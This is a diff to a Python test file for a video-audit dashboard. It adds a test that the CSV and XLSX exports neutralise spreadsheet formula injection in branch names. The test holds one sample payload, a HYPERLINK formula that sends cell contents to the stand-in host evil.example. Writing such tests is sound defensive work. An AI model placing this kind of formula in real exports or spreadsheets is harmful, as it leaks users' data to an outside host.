@@ -27,6 +27,7 @@ from tests.conftest import REPO
 from tests.web.conftest import WebEnv, build_web_env
 from vidaudit.db.models import (
     BranchResultRow,
+    BranchRow,
     ChannelObservationRow,
     CollectionRunRow,
     DailyCheckRow,
@@ -634,6 +635,23 @@ def test_xlsx_export_opens_in_openpyxl(dash: WebEnv) -> None:
     b1 = dict(zip(header, values[1], strict=True))
     assert b1["最差通道保存天数"] == 12.5 and b1["合规通道数"] == 1  # numbers, not text
     assert b1["最大时钟偏差(秒)"] == 75.4
+
+
+def test_exports_neutralise_formulas_in_text_cells(dash: WebEnv) -> None:
+    """A branch name (typed by whoever wrote cameras.yaml) that starts like a formula is
+    written as text in both formats: the one exporter guards every export."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with dash.sessions.begin() as db:
+        row = db.get(BranchRow, "B1")
+        assert row is not None
+        row.name = evil
+    with dash.client_as("sec") as client:
+        text = client.get("/dashboard.csv?sort=branch&dir=asc").content.decode("utf-8-sig")
+        book = load_workbook(io.BytesIO(client.get("/dashboard.xlsx?sort=branch&dir=asc").content))
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][1] == "'" + evil
+    cell = book.active.cell(2, 2)
+    assert cell.value == "'" + evil and cell.data_type == "s"
 
 
 # --- languages ---------------------------------------------------------------------------
